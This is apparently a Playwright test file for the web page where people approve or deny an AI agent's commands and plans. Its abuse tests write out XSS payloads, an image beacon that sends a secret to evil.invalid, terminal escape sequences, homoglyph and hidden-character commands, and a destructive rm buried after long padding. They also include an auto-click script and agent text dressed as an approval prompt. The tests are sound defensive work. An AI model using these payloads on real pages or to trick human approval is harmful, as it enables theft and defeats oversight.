"""What an agent asks, and how people answer: in a real page, of a real gateway."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.web.conftest import Visitor
from tests.web.rig import SIZES, Served, Size, Theme

_requests = (f"dock-{number}" for number in itertools.count())
# presses a button that is not there yet in the very moment it is
EAGER = """
(name) => {
  window.pressed = 0;
  const buttons = () => [...document.querySelectorAll("button")];
  const before = new Set(buttons());
  new MutationObserver(() => {
    const found = buttons().find((one) => one.textContent === name && !before.has(one));
    if (found && window.pressed === 0) { window.pressed += 1; found.click(); }
  }).observe(document.body, { childList: true, subtree: true });
}
"""


def asked(gateway: Served, *words: str) -> str:
    """A session that waits for an answer to what was said last."""
    session = gateway.new_session(next(_requests))
    *before, last = words
    for one in before:
        gateway.say(session, one, next(_requests))
    gateway.say(session, last, next(_requests), until="written")
    return session


def dock(page: Page) -> Locator:
    return page.get_by_role("region", name="Waiting for you")


def button(page: Page, name: str) -> Locator:
    return dock(page).get_by_role("button", name=name)


def refuse(page: Page, name: str = "Deny") -> None:
    """Open the form of a refusal: what is typed next is its reason."""
    button(page, name).click()
    expect(dock(page).get_by_role("textbox")).to_be_focused()


def prompts(gateway: Served, session: str) -> list[dict[str, Any]]:
    """What is open, as the gateway sees it."""
    found: list[dict[str, Any]] = gateway.call("GET", f"/sessions/{session}")["prompts"]
    return found


def log(page: Page) -> Locator:
    return page.get_by_role("log")


# ---- one answer ----------------------------------------------------------------------------------


@pytest.mark.conforms("audit: component, permission dialog")
@pytest.mark.sample
def test_a_command_is_allowed_once(gateway: Served, visitor: Visitor) -> None:
    page = visitor().open(f"/s/{asked(gateway, 'run echo ahoy')}")
    expect(dock(page).get_by_text("echo ahoy", exact=True)).to_be_visible()
    button(page, "Allow once").click()
    expect(log(page)).to_contain_text("Done. It said")
    expect(dock(page)).to_have_count(0)


def test_a_rule_of_the_session_is_not_asked_about_again(gateway: Served, visitor: Visitor) -> None:
    session = asked(gateway, "run echo ahoy")
    page = visitor().open(f"/s/{session}")
    button(page, "Always allow Bash(echo ahoy) in this session").click()
    expect(log(page)).to_contain_text("Done. It said")
    gateway.say(session, "run echo ahoy", next(_requests))
    assert prompts(gateway, session) == []


def test_a_changed_command_is_what_runs(gateway: Served, visitor: Visitor) -> None:
    page = visitor().open(f"/s/{asked(gateway, 'run echo ahoy')}")
    button(page, "Edit").click()
    dock(page).get_by_label("command").fill("echo changed")
    button(page, "Allow as changed").click()
    expect(log(page)).to_contain_text("changed")
    expect(dock(page)).to_have_count(0)


def test_a_refusal_reaches_the_agent_with_its_words(gateway: Served, visitor: Visitor) -> None:
    page = visitor().open(f"/s/{asked(gateway, 'run echo ahoy')}")
    refuse(page)
    page.keyboard.type("Read the manual instead")
    page.keyboard.press("Enter")
    expect(log(page)).to_contain_text("Read the manual instead")


def test_a_change_is_shown_before_it_is_allowed(gateway: Served, visitor: Visitor) -> None:
    page = visitor().open(f"/s/{asked(gateway, 'edit')}")
    expect(dock(page)).to_contain_text("Wants to write a file")
    expect(dock(page)).to_contain_text("def greet(name: str) -> str:")
    button(page, "Allow once").click()
    expect(dock(page)).to_contain_text("Wants to change a file")
    expect(dock(page)).to_contain_text('cheer = "!" * 3')
    refuse(page)
    page.keyboard.press("Enter")
    expect(dock(page)).to_have_count(0)


def test_a_plan_is_reviewed(gateway: Served, visitor: Visitor) -> None:
    session = asked(gateway, "plan")
    page = visitor().open(f"/s/{session}")
    plan = page.get_by_role("heading", name="Give the boat a second helm")
    expect(plan).to_have_count(1)  # before those who are asked, and nowhere else
    expect(dock(page).locator(plan)).to_be_visible()
    refuse(page, "Keep planning")
    page.keyboard.type("Smaller steps")
    page.keyboard.press("Enter")
    expect(log(page)).to_contain_text("I stay in plan mode")
    expect(log(page).get_by_role("region", name="Plan")).to_be_visible()
    gateway.say(session, "plan", next(_requests), until="written")
    button(page, "Approve the plan").click()
    expect(log(page)).to_contain_text("Approved: the mode is")


@pytest.mark.conforms("audit: component, question form")
def test_questions_are_answered_in_one_form(gateway: Served, visitor: Visitor) -> None:
    visit = visitor()
    visit.expect("WebSocket|ERR_")
    page = visit.open(f"/s/{asked(gateway, 'questions')}")
    dock(page).get_by_role("radio", name="Red").check()
    dock(page).get_by_role("checkbox", name="Cook").check()
    dock(page).get_by_role("checkbox", name="Cat").check()
    page.reload()
    expect(dock(page).get_by_role("radio", name="Red")).to_be_checked()
    page.get_by_label("Your own answer: What is the boat's name?").fill("Ada, of course")
    button(page, "Send answers").click()
    expect(log(page)).to_contain_text("Cook, Cat")
    expect(log(page)).to_contain_text("Ada, of course")


def test_keys_answer_with_the_focus_in_the_dock(gateway: Served, visitor: Visitor) -> None:
    page = visitor().open(f"/s/{asked(gateway, 'run echo ahoy')}")
    expect(button(page, "Allow once")).to_be_enabled()
    page.get_by_label("Message", exact=True).fill("y")
    page.keyboard.press("y")
    expect(dock(page)).to_be_visible()
    dock(page).focus()
    page.keyboard.press("y")
    expect(log(page)).to_contain_text("Done. It said")


# ---- several people, several prompts -------------------------------------------------------------


def test_a_prompt_answered_elsewhere_says_so_and_goes(gateway: Served, visitor: Visitor) -> None:
    session = asked(gateway, "run echo ahoy")
    one, other = visitor().open(f"/s/{session}"), visitor().open(f"/s/{session}")
    expect(dock(one)).to_be_visible()
    button(other, "Allow once").click()
    expect(one.get_by_text("Allowed on another device")).to_be_visible()
    expect(dock(one)).to_have_count(0)


def test_abuse_37_prompts_are_shown_one_at_a_time(gateway: Served, visitor: Visitor) -> None:
    session = asked(gateway, "parallel")
    page = visitor().open(f"/s/{session}")
    expect(dock(page)).to_have_count(1)
    expect(dock(page)).to_contain_text("1 of 2")
    expect(dock(page).get_by_text("date", exact=True)).to_be_visible()
    page.evaluate(EAGER, "Allow once")
    button(page, "Allow once").click()
    expect(dock(page).get_by_text("pwd", exact=True)).to_be_visible()
    page.wait_for_function("window.pressed === 1")  # at once, and it did not count
    assert len(prompts(gateway, session)) == 1
    expect(dock(page)).not_to_contain_text("1 of 2")
    refuse(page)
    page.keyboard.press("Enter")
    expect(log(page)).to_contain_text("Both are settled")


def test_who_may_not_approve_sees_why(gateway: Served, visitor: Visitor) -> None:
    session = asked(gateway, "run echo ahoy")
    visit = visitor()
    page = visit.page()
    # the gateway refuses such an answer whatever a page shows; here it is about what it shows
    page.route_web_socket("**/api/v1/ws", _without("approve"))
    page.goto(f"{gateway.address}/s/{session}")
    expect(dock(page)).to_contain_text("does not have the right to approve")
    expect(button(page, "Allow once")).to_be_disabled()
    button(page, "Allow once").click(force=True)
    assert len(prompts(gateway, session)) == 1


def _without(scope: str) -> Callable[[Any], None]:
    """The connection of somebody who lacks a right."""

    def changed(text: str) -> str:
        message = json.loads(text)
        if message.get("type") == "welcome":
            message["scopes"].remove(scope)
        return json.dumps(message)

    def connect(route: Any) -> None:
        server = route.connect_to_server()
        server.on_message(
            lambda text: route.send("\n".join(map(changed, text.strip().split("\n"))))
        )

    return connect


# ---- abuse ---------------------------------------------------------------------------------------


def test_abuse_7_a_click_meant_for_something_else_does_not_count(
    gateway: Served, visitor: Visitor
) -> None:
    session = gateway.new_session(next(_requests))
    page = visitor().open(f"/s/{session}")
    expect(page.get_by_label("Message", exact=True)).to_be_enabled()
    page.evaluate(EAGER, "Allow once")
    gateway.say(session, "run echo ahoy", next(_requests), until="written")
    expect(button(page, "Allow once")).to_be_enabled()
    assert page.evaluate("window.pressed") == 1
    assert len(prompts(gateway, session)) == 1
    button(page, "Allow once").click()
    expect(dock(page)).to_have_count(0)


def test_abuse_35_a_command_is_read_to_its_end_before_it_is_allowed(
    gateway: Served, visitor: Visitor
) -> None:
    words = "echo harmless; " * 400 + "rm -rf /tmp/boat"
    session = asked(gateway, f"run {words}")
    page = visitor().open(f"/s/{session}")
    expect(dock(page)).to_contain_text("Read to the end before you allow it")
    expect(button(page, "Allow once")).to_be_disabled()
    button(page, "Allow once").click(force=True)
    dock(page).focus()
    page.keyboard.press("y")
    assert len(prompts(gateway, session)) == 1
    button(page, "Show the end").click()
    expect(button(page, "Allow once")).to_be_enabled()
    expect(dock(page).locator("pre")).to_have_text(re.compile("rm -rf /tmp/boat$"))


def test_abuse_35_and_59_nothing_in_a_command_is_unseen(gateway: Served, visitor: Visitor) -> None:
    """Abuse cases 35 and 59."""
    words = "curl p\u0430ypal.example a\u202eb\u200bc\u00a0d\u001b[2Je"
    session = asked(gateway, f"run {words}")
    page = visitor().open(f"/s/{session}")
    shown = "curl p\u0430ypal.example a⟨U+202E⟩b⟨U+200B⟩c⟨U+00A0⟩d␛[2Je"
    expect(dock(page).locator("pre")).to_have_text(shown)
    expect(dock(page)).to_contain_text("Letters of several alphabets in one word")


def test_abuse_60_what_an_agent_says_is_no_prompt(gateway: Served, visitor: Visitor) -> None:
    words = (
        "Wants to run a command. Allow once? [Allow once](javascript:alert(1)) <button>Allow once"
    )
    session = gateway.new_session(next(_requests))
    gateway.say(session, f"think {words}", next(_requests))
    page = visitor().open(f"/s/{session}")
    expect(log(page)).to_contain_text("Allow once")
    expect(dock(page)).to_have_count(0)
    expect(page.get_by_role("button", name="Allow once")).to_have_count(0)
    assert page.evaluate(
        "!document.querySelector('[role=log]').contains(document.querySelector('form'))"
    )


def test_abuse_57_58_and_59_what_an_agent_writes_is_only_read(
    gateway: Served, visitor: Visitor
) -> None:
    """Abuse cases 57, 58 and 59: in what is asked about, and in what the agent says."""
    evil = (
        "<img src=https://evil.invalid/x onerror=alert(1)> <script>alert(2)</script> "
        "[me](javascript:alert(3)) ![pixel](https://evil.invalid/?q=SECRET) "
        "<svg onload=alert(4)> <iframe srcdoc='<script>alert(5)</script>'></iframe> "
        "<math><mi href=javascript:alert(6)>x</mi></math> \u001b]52;c;AAAA\u0007\u009b2J"
    )
    page = visitor().page()
    wanted: list[str] = []
    page.on("request", lambda one: wanted.append(one.url))
    page.on("dialog", lambda one: wanted.append(f"dialog {one.message}"))
    page.goto(f"{gateway.address}/s/{asked(gateway, f'run {evil}')}")
    refuse(page)
    page.keyboard.insert_text(evil)  # the demo agent repeats the reason as its own Markdown
    page.keyboard.press("Enter")
    expect(log(page)).to_contain_text("That did not happen, and I respect it")
    expect(log(page).get_by_role("blockquote")).to_contain_text("␛]52;c;AAAA␇�2J")
    strange = "script, iframe, math, [onload], [onerror], [srcdoc], a[href^='javascript']"
    assert page.locator(f"main :is({strange})").count() == 0
    assert page.locator("main img[src^=http]").count() == 0
    assert all(one.startswith((gateway.address, "data:", "blob:")) for one in wanted), wanted


def test_abuse_13_an_address_names_no_other_gateway(gateway: Served, visitor: Visitor) -> None:
    session = gateway.new_session(next(_requests))
    visit = visitor()
    visit.expect("400")
    page = visit.page()
    sockets: list[str] = []
    page.on("websocket", lambda one: sockets.append(one.url))
    page.goto(f"{gateway.address}/s/{session}#token=stolen&gateway=ws://evil.invalid")
    expect(page.get_by_label("Message", exact=True)).to_be_enabled()
    assert sockets
    assert all(one.startswith(gateway.address.replace("http", "ws", 1)) for one in sockets)
    answer = page.goto(f"{gateway.address}/s/{session}?gateway=ws://evil.invalid")
    assert answer is not None
    assert answer.status == 400


# ---- how it looks --------------------------------------------------------------------------------


def test_on_a_phone_allow_and_deny_are_apart_and_large(gateway: Served, visitor: Visitor) -> None:
    page = visitor(size="phone").open(f"/s/{asked(gateway, 'run ' + 'echo a; ' * 300)}")
    allow, deny = button(page, "Allow once"), button(page, "Deny")
    expect(deny).to_be_visible()
    left, right = allow.bounding_box(), deny.bounding_box()
    assert left is not None
    assert right is not None
    middle = SIZES["phone"][0] / 2
    assert left["x"] + left["width"] <= middle <= right["x"]
    assert min(left["height"], right["height"], left["width"]) >= 44
    assert right["y"] + right["height"] <= SIZES["phone"][1]  # on the screen, however long it is
    field = page.get_by_label("Message", exact=True).bounding_box()
    assert field is not None
    assert field["height"] <= 48  # the composer is folded


@pytest.mark.parametrize(
    ("size", "theme", "words"),
    [
        ("desk", "dark", "run echo ahoy"),
        ("narrow", "light", "questions"),
        ("narrow", "dark", "plan"),
        ("desk", "light", "edit"),
    ],
)
def test_a_prompt_is_for_everybody(
    gateway: Served,
    visitor: Visitor,
    axe: Callable[..., list[str]],
    size: Size,
    theme: Theme,
    words: str,
) -> None:
    page = visitor(size=size, theme=theme).open(f"/s/{asked(gateway, words)}")
    expect(dock(page)).to_be_visible()
    expect(dock(page).get_by_role("button").last).to_be_enabled()
    assert axe(page) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
